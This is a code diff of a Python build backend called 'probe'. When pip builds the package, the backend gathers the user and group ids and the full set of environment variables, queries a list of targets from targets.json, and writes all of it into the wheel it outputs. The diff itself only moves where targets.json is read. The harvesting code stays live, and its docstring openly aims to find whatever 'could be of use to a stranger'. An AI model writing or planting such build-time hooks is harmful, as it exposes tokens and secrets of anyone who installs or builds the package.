@@ -1,4 +1,5 @@
-"""A build backend, as setup.py is one: pip runs it to make a package. Looks for whatever could be of use to a stranger."""
+"""Looks for whatever could be of use to a stranger: as a build backend, which pip runs to make a package as it would setup.py, or in a
+function."""
 
 import json
 import os
@@ -45,8 +46,7 @@ def ask(target):
         return {"error": str(error)}
 
 
-def findings():
-    targets = json.loads(pathlib.Path("targets.json").read_text())["targets"]
+def findings(targets):
     return {
         "user": f"{os.getuid()}:{os.getgid()}",
         "env": dict(os.environ),
@@ -60,8 +60,9 @@ def findings():
 def build_wheel(folder, config_settings=None, metadata_directory=None):
     name = "probe-1.0-py3-none-any.whl"
     info = "probe-1.0.dist-info"
+    targets = json.loads(pathlib.Path("targets.json").read_text())["targets"]
     with zipfile.ZipFile(os.path.join(folder, name), "w") as wheel:
-        wheel.writestr("probe_findings.json", json.dumps(findings()))
+        wheel.writestr("probe_findings.json", json.dumps(findings(targets)))
         wheel.writestr(f"{info}/METADATA", "Metadata-Version: 2.1\nName: probe\nVersion: 1.0\n")
         wheel.writestr(f"{info}/WHEEL", "Wheel-Version: 1.0\nGenerator: probe\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
         wheel.writestr(f"{info}/RECORD", "")
